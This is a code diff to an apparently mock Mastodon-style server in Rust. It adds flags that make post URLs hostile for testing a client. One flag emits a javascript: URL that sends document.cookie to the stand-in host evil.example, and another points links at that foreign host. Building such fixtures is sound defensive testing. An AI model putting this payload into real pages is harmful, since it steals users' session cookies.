@@ -226,12 +226,19 @@ fn html_escape(text: &str) -> String {
         .replace('"', "&quot;")
 }
 
-fn status_json(req: &HttpRequest, post: &FakePost) -> serde_json::Value {
+fn status_json(s: &Shared, req: &HttpRequest, post: &FakePost) -> serde_json::Value {
     let host = req.connection_info().host().to_string();
+    let url = if s.flag("javascript_urls") {
+        "javascript:fetch('//evil.example/'+document.cookie)//".to_string()
+    } else if s.flag("foreign_urls") {
+        format!("https://evil.example/@ada/{}", post.id)
+    } else {
+        format!("http://{host}/@ada/{}", post.id)
+    };
     json!({
         "id": post.id, "created_at": Utc::now().to_rfc3339(), "visibility": "public",
         "language": post.raw["language"], "uri": format!("http://{host}/users/ada/statuses/{}", post.id),
-        "url": format!("http://{host}/@ada/{}", post.id),
+        "url": url,
         "content": format!("<p>{}</p>", html_escape(&post.text)),
         "replies_count": 2, "reblogs_count": 5, "favourites_count": 13,
         "account": {"id": post.author, "username": "ada", "acct": "ada"},
@@ -264,7 +271,7 @@ async fn create_post(s: S, i: I, req: HttpRequest, body: web::Bytes) -> HttpResp
         if let Some((id, at)) = keys.get(&(user.clone(), key.clone())) {
             if now - *at < Duration::hours(1) {
                 if let Some(post) = lock(&s.posts).iter().find(|p| p.id == *id) {
-                    return HttpResponse::Ok().json(status_json(&req, post));
+                    return HttpResponse::Ok().json(status_json(&s, &req, post));
                 }
             }
         }
@@ -288,7 +295,7 @@ async fn create_post(s: S, i: I, req: HttpRequest, body: web::Bytes) -> HttpResp
         raw: serde_json::to_value(&f).unwrap_or_default(),
         deleted: false,
     };
-    let answer = status_json(&req, &post);
+    let answer = status_json(&s, &req, &post);
     if let Some(key) = key {
         lock(&i.keys).insert((user, key), (post.id.clone(), now));
     }
@@ -308,7 +315,7 @@ async fn statuses(s: S, req: HttpRequest, id: web::Path<String>) -> HttpResponse
         .rev()
         .filter(|p| !p.deleted && p.author == *id)
         .take(40)
-        .map(|p| status_json(&req, p))
+        .map(|p| status_json(&s, &req, p))
         .collect();
     HttpResponse::Ok().json(list)
 }
@@ -323,7 +330,7 @@ async fn status(s: S, req: HttpRequest, id: web::Path<String>) -> HttpResponse {
         }
     }
     match lock(&s.posts).iter().find(|p| p.id == *id && !p.deleted) {
-        Some(post) => HttpResponse::Ok().json(status_json(&req, post)),
+        Some(post) => HttpResponse::Ok().json(status_json(&s, &req, post)),
         None => error(404, "Record not found"),
     }
 }
@@ -343,7 +350,7 @@ async fn delete(s: S, req: HttpRequest, id: web::Path<String>) -> HttpResponse {
     {
         Some(post) => {
             post.deleted = true;
-            let mut answer = status_json(&req, post);
+            let mut answer = status_json(&s, &req, post);
             answer["text"] = json!(post.text);
             HttpResponse::Ok().json(answer)
         }
